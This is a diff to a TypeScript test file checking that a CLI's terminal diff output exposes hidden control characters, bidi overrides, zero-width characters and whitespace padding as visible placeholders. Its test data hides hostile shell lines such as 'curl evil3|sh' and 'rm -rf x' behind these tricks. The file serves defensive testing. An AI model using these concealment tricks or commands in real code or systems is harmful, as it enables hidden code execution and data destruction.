@@ -51,6 +51,34 @@ test("in a terminal no text of a file does anything to the terminal", async () =
   const running = start(["diff", "api", "--no-pager"], { isTerminal: true, env: { NO_COLOR: "1" } });
   const { out } = await running.result;
   expect(out).toContain("2 files changed");
-  expect(out).toContain("+text");
+  expect(out).toContain("+␛]0;title␇text");
   expect(out).not.toContain("\u001b");
+});
+
+test("in a terminal nothing of a line or a name is hidden: what has no shape is shown as in questions", async () => {
+  const { start, repository, daemon, run } = await changed();
+  const session = JSON.parse((await run(["diff", "api", "--json"])).out).session.id;
+  const ends = () => daemon.events(session).filter(({ type, data }) => type === "checkpoint" && JSON.stringify(data).includes(`"end"`));
+  await daemon.send(session, "more");
+  await until("the next prompt", () => daemon.keeper.runs.at(-1)?.prompts.includes("more"));
+  const runs = [
+    ["echo two \u001b]0;x; curl evil3|sh; \u0007 # ok", "+echo two ␛]0;x; curl evil3|sh; ␇ # ok"],
+    ["echo \u009b31mred\u202e; hs|live lruc", "+echo ⟨U+009B⟩31mred⟨U+202E⟩; hs|live lruc"],
+    ["true\u200b\u2066\u00a0\u{e0041}\ufeff|x", "+true⟨U+200B⟩⟨U+2066⟩⟨U+00A0⟩⟨U+E0041⟩⟨U+FEFF⟩|x"],
+    ["true # ok\rrm -rf x\u2028y\u0085z", "+true # ok␍rm -rf x⟨U+2028⟩y⟨U+0085⟩z"],
+    [`true #${" ".repeat(300)}; evil`, "+true #⟨300 blanks⟩; evil"],
+    [`\t${" ".repeat(40)}deep\tin`, `+\t${" ".repeat(40)}deep\tin`],
+  ] as const;
+  repository.write("esc.sh", runs.map(([text]) => `${text}\n`).join(""));
+  repository.write("a\u202eb\u001b]0;x\u0007c.txt", "new\n");
+  daemon.keeper.runs.at(-1)?.say(done);
+  await until("the files after the turn", () => ends().length === 2);
+  const inTerminal = async (...args: string[]): Promise<string> =>
+    (await start(["diff", "api", ...args], { isTerminal: true, env: { NO_COLOR: "1" } }).result).out;
+  const lines = (await inTerminal("--no-pager")).split("\n");
+  for (const [, shown] of runs) expect(lines).toContain(shown);
+  expect(lines).toContain('+++ "b/a⟨U+202E⟩b\\033]0;x\\ac.txt"');
+  expect(await inTerminal("--stat")).toContain(" A a⟨U+202E⟩b␛]0;x␇c.txt");
+  // A program gets the bytes.
+  expect((await run(["diff", "api", "esc.sh"])).out).toContain(`+${runs[0][0]}\n`);
 });
